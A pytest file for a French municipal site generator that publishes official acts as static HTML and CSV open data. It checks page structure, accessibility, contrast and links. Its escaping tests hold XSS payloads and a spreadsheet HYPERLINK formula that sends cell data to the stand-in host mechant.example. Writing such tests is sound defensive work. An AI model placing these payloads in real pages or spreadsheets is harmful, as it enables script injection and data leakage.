"""The pages: what they tell, how they are built, and what never gets into them (§5)."""

import posixpath
import re
from dataclasses import replace
from datetime import date
from hashlib import sha256
from itertools import pairwise
from urllib.parse import unquote, urlsplit

import pytest
from lxml import html

from demat.publish.content import MotifRetrait, PublicActe
from demat.publish.scdl import check_csv
from demat.publish.site import deliberation_rows, render_site
from tests.unit.publish.factories import ACTE, RETIRE, SITE, URL, acte

HOSTILE = '<script>alert(1)</script> "><img src=x onerror=alert(2)> {{ 7*7 }} & co'
FORMULA = "=HYPERLINK(\"http://mechant.example/?\"&A1,'x')"
FOLDER = "actes/2026/DE/2026_031"
FULL = replace(
    SITE,
    actes=(
        ACTE,
        acte(numero="2026_032", objet=HOSTILE, votes=None, budget_annee="", budget_nom=""),
        acte(numero="2026_033", objet=FORMULA, ar_date=None),
        acte(numero="2025_090", date_decision=date(2025, 12, 31), ar_date=None),
    ),
)
FILES = render_site(FULL)
FORBIDDEN = (
    *("script", "style", "base", "form", "iframe", "object"),
    *("embed", "img", "audio", "video"),
)
PAGES = sorted(path for path in FILES if path.endswith(".html"))


def parse(path: str) -> html.HtmlElement:
    return html.document_fromstring(FILES[path].decode())


def texts(path: str) -> str:
    return " ".join(parse(path).text_content().split())


def test_the_site_has_these_files():
    assert sorted(FILES) == [
        "accessibilite.html",
        "actes/2025/DE/2025_090/2025_090-annexe-1.png",
        "actes/2025/DE/2025_090/2025_090.pdf",
        "actes/2025/DE/2025_090/index.html",
        "actes/2025/index.html",
        "actes/2026/DE/2026_030/index.html",
        "actes/2026/DE/2026_031/2026_031-annexe-1.png",
        "actes/2026/DE/2026_031/2026_031.pdf",
        "actes/2026/DE/2026_031/index.html",
        "actes/2026/DE/2026_032/2026_032-annexe-1.png",
        "actes/2026/DE/2026_032/2026_032.pdf",
        "actes/2026/DE/2026_032/index.html",
        "actes/2026/DE/2026_033/2026_033-annexe-1.png",
        "actes/2026/DE/2026_033/2026_033.pdf",
        "actes/2026/DE/2026_033/index.html",
        "actes/2026/index.html",
        "donnees/deliberations-2025.csv",
        "donnees/deliberations-2026.csv",
        "index.html",
        "mentions-legales.html",
        "style.css",
    ]


def test_the_same_content_gives_the_same_bytes():
    assert render_site(FULL) == FILES
    assert render_site(replace(FULL, actes=FULL.actes[::-1])) == FILES


# --------------------------------------------------------------------------------- every page


@pytest.mark.parametrize("path", PAGES)
def test_structure(path: str):
    page = parse(path)

    assert FILES[path].startswith(b"<!DOCTYPE html>\n")
    assert page.get("lang") == "fr"
    assert len(page.findall(".//h1")) == 1
    assert [len(page.findall(f".//{name}")) for name in ("header", "main", "footer")] == [1, 1, 1]
    navs = [nav.get("aria-label") for nav in page.iter("nav")]
    assert len(navs) == len(set(navs))
    assert None not in navs
    first = page.find("body")[0]
    assert (first.get("class"), first.get("href")) == ("evitement", "#contenu")
    assert page.find(".//main").get("id") == "contenu"
    assert page.find(".//meta[@name='viewport']") is not None
    assert page.findtext(".//title").strip().endswith("Commune de Saint-Exemple-lès-Fiction")


def test_titles_are_unique():
    titles = [parse(path).findtext(".//title") for path in PAGES]
    assert len(set(titles)) == len(titles)


@pytest.mark.parametrize("path", PAGES)
def test_headings_skip_no_level(path: str):
    levels = [int(node.tag[1]) for node in parse(path).iter("h1", "h2", "h3", "h4")]
    assert levels[0] == 1
    assert all(after - before <= 1 for before, after in pairwise(levels))


@pytest.mark.parametrize("path", PAGES)
def test_tables_have_captions_and_scopes(path: str):
    for table in parse(path).iter("table"):
        assert table[0].tag == "caption"
        assert table[0].text_content().strip()
        assert all(cell.get("scope") in ("row", "col") for cell in table.iter("th"))
        assert all(row.find("th") is not None for row in table.iter("tr"))


@pytest.mark.parametrize("path", PAGES)
def test_nothing_runs_and_nothing_comes_from_elsewhere(path: str):
    page = parse(path)
    forbidden = [
        "script",
        "iframe",
        "object",
        "embed",
        "img",
        "form",
        "style",
        "audio",
        "video",
        "base",
    ]
    assert not [node.tag for node in page.iter(*forbidden)]
    for node in page.iter():
        for name, text in node.items():
            assert not name.startswith("on"), (node.tag, name)
            assert name != "style"
            if name in ("href", "src"):
                away = urlsplit(text).netloc
                assert not away or text.startswith(f"{URL}/")
    assert b"fr-" not in FILES[path]


def test_the_style_sheet_calls_nobody():
    style = FILES["style.css"].decode()
    assert "url(" not in style
    assert "@import" not in style
    assert ":focus-visible" in style


@pytest.mark.parametrize("path", PAGES)
def test_every_link_leads_somewhere(path: str):
    for link in parse(path).iter("a", "link"):
        target = urlsplit(link.get("href"))
        if target.netloc:
            place = target.path.strip("/") + "/index.html"
        elif not target.path:
            assert parse(path).get_element_by_id(target.fragment) is not None
            continue
        else:
            place = posixpath.normpath(posixpath.join(posixpath.dirname(path), target.path))
        assert unquote(place) in FILES, link.get("href")


@pytest.mark.parametrize("path", PAGES)
def test_links_are_named_by_their_aim(path: str):
    for link in parse(path).iter("a"):
        words = link.text_content().strip()
        assert len(words) > 2
        assert words.lower() not in ("ici", "cliquez ici", "lien", "lire la suite")


def luminance(colour: str) -> float:
    parts = [int(colour[at : at + 2], 16) / 255 for at in (1, 3, 5)]
    linear = [
        part / 12.92 if part <= 0.04045 else ((part + 0.055) / 1.055) ** 2.4 for part in parts
    ]
    return 0.2126 * linear[0] + 0.7152 * linear[1] + 0.0722 * linear[2]


def contrast(one: str, other: str) -> float:
    low, high = sorted((luminance(one), luminance(other)))
    return (high + 0.05) / (low + 0.05)


@pytest.mark.parametrize(
    ("name", "ground", "least"),
    [
        ("texte", "fond", 4.5),
        ("texte", "fond-doux", 4.5),
        ("discret", "fond", 4.5),
        ("discret", "fond-doux", 4.5),
        ("accent", "fond", 4.5),
        ("accent", "fond-doux", 4.5),
        ("focus", "fond", 3),
        ("focus", "fond-doux", 3),
        ("filet", "fond", 3),
    ],
)
def test_colours_have_contrast(name: str, ground: str, least: float):
    style = FILES["style.css"].decode()
    colours = dict(re.findall(r"--([a-z-]+): (#[0-9a-f]{6});", style))
    assert contrast(colours[name], colours[ground]) >= least


# ------------------------------------------------------------------------------- what they tell


def test_the_page_of_an_act_shows_what_the_law_asks():
    page = parse(f"{FOLDER}/index.html")

    rows = {row.find("th").text: " ".join(row.find("td").text_content().split()) for row in
            page.find(".//table").iter("tr")}  # fmt: skip
    assert rows == {
        "Numéro": "2026_031",
        "Nature": "Délibération",
        "Date de l'acte": "12 mars 2026",
        "Objet": "Vote du budget primitif 2026",
        "Matière": "7.1 Finances locales / Décisions budgétaires",
        "Auteur": "Camille Dupré, Maire",
        "Budget concerné": "Budget principal (2026)",
        "Vote": "22 pour, 1 contre, 2 abstentions (25 votants sur 27 membres)",
        "Mise en ligne": "21 mars 2026",
        "Publicité assurée au moins jusqu'au": "21 mai 2026",
        "Transmission à la préfecture": (
            "Reçu le 16 mars 2026 sous l'identifiant 099-000000000-20260312-2026_031-DE"
        ),
        "Adresse permanente": f"{URL}/{FOLDER}/",
    }
    assert page.findtext(".//h1") == "Vote du budget primitif 2026"
    words = texts(f"{FOLDER}/index.html")
    assert "une copie de cet acte sur papier" in words
    assert "dans les deux mois" in words
    canonical = page.find(".//link[@rel='canonical']").get("href")
    assert canonical == f"{URL}/{FOLDER}/"


def test_documents_are_the_transmitted_bytes_with_their_weight_and_digest():
    page = parse(f"{FOLDER}/index.html")

    links = [(link.get("href"), link.text) for link in page.iter("a") if "." in link.get("href")]
    assert [link for link in links if link[0].startswith("2026_031")] == [
        ("2026_031.pdf", "Délibération 2026_031 (PDF, 1 Ko, en français)"),
        ("2026_031-annexe-1.png", "Annexe 1 de l'acte 2026_031 (PNG, 1 Ko, en français)"),
    ]
    for name, document in zip(ACTE.file_names, ACTE.documents, strict=True):
        assert FILES[f"{FOLDER}/{name}"] == document.content
        assert sha256(document.content).hexdigest() in texts(f"{FOLDER}/index.html")
    assert "Taille exacte : 13 octets" in texts(f"{FOLDER}/index.html")


@pytest.mark.parametrize(
    ("size", "weight", "bytes_shown"),
    [
        (10, "1 Ko", "10"),
        (242_400, "242 Ko", "242\u202f400"),
        (1_234_567, "1,2 Mo", "1\u202f234\u202f567"),
    ],
)
def test_weights(size: int, weight: str, bytes_shown: str):
    document = replace(ACTE.documents[0], content=b"x" * size)
    site = replace(SITE, actes=(acte(documents=(document,)),))
    page = render_site(site)[f"{FOLDER}/index.html"].decode()
    assert f"(PDF, {weight}, en français)" in page
    assert f"{bytes_shown} octets" in page


def test_lists_are_by_year_newest_first():
    page = parse("index.html")
    years = [node.text for node in page.iter("h2")]
    numbers = [row[1].text_content().split()[-1] for row in page.xpath("//tbody/tr")]

    assert years == ["Année 2026", "Année 2025"]
    assert numbers == ["2026_033", "2026_032", "2026_031", "2025_090"]
    assert "Données des délibérations de 2026 (CSV, 1 Ko)" in texts("index.html")
    of_2025 = parse("actes/2025/index.html").xpath("//tbody/tr")
    assert [row[1].text_content().split()[-1] for row in of_2025] == ["2025_090"]


def test_the_first_of_a_month_is_written_as_people_say_it():
    site = replace(SITE, actes=(acte(date_decision=date(2026, 8, 1), ar_date=None),))
    assert "1er août 2026" in render_site(site)["index.html"].decode()


def test_an_empty_site_says_so():
    files = render_site(replace(SITE, actes=(), retires=()))
    assert sorted(files) == [
        "accessibilite.html",
        "index.html",
        "mentions-legales.html",
        "style.css",
    ]
    assert "Aucun acte n'est publié pour le moment." in files["index.html"].decode()


def test_the_tables_pass_the_checks_and_count_the_acts():
    rows = deliberation_rows(FULL)
    assert {year: len(found) for year, found in rows.items()} == {2025: 1, 2026: 3}
    for year in (2025, 2026):
        assert not check_csv(FILES[f"donnees/deliberations-{year}.csv"])
    assert rows[2026][0].delib_url == f"{URL}/{FOLDER}/"


def test_acts_of_other_natures_are_not_in_the_table():
    files = render_site(replace(SITE, actes=(acte(nature=2),)))
    assert "actes/2026/AR/2026_031/index.html" in files
    assert not any(path.startswith("donnees") for path in files)
    page = html.document_fromstring(files["index.html"].decode())
    assert "Acte réglementaire 2026_031" in page.text_content()


def test_the_statements_are_honest():
    assert "Non encore évaluée" in texts("accessibilite.html")
    assert "non conforme" in texts("accessibilite.html")
    assert "Accessibilité : non encore évaluée" in texts("index.html")
    legal = texts("mentions-legales.html")
    for words in ("SIRET 21990123800010", "Camille Dupré, Maire", "Licence Ouverte", "cookie"):
        assert words in legal


# ---------------------------------------------------------------------------- hostile and secret


def test_a_hostile_objet_is_only_text():
    page = parse("actes/2026/DE/2026_032/index.html")
    assert page.findtext(".//h1") == HOSTILE
    assert HOSTILE in page.findtext(".//title")
    assert HOSTILE in [link.text for link in parse("index.html").iter("a")]
    for path in PAGES:
        assert b"<script" not in FILES[path]
        assert b"<img" not in FILES[path]


def test_an_objet_like_a_formula_is_kept_and_quoted_in_the_table():
    table = FILES["donnees/deliberations-2026.csv"].decode()
    assert '"=HYPERLINK(""http://mechant.example/?""&A1,\'x\')"' in table
    assert parse("actes/2026/DE/2026_033/index.html").findtext(".//h1") == FORMULA


@pytest.mark.parametrize("motif", MotifRetrait)
def test_a_tombstone_tells_dates_and_nothing_of_the_objet(motif: MotifRetrait):
    files = render_site(replace(SITE, actes=(), retires=(replace(RETIRE, motif=motif),)))
    page = html.document_fromstring(files["actes/2026/DE/2026_030/index.html"].decode())
    words = " ".join(page.text_content().split())

    for text in ("2026_030", "12 février 2026", "15 février 2026", "15 mars 2026", "retiré"):
        assert text in words
    assert ("annulée" in words) is (motif is MotifRetrait.ANNULATION)
    assert page.find(".//meta[@name='robots']").get("content") == "noindex"
    assert not any(path.endswith((".pdf", ".png", ".csv")) for path in files)


def test_an_individual_act_is_refused_even_by_force():
    forced = acte()
    object.__setattr__(forced, "nature", 3)
    with pytest.raises(ValueError, match="individual act"):
        render_site(replace(SITE, actes=(forced,)))
    with pytest.raises(ValueError, match="individual act"):
        PublicActe(**{**{name: getattr(ACTE, name) for name in ACTE.__slots__}, "nature": 3})
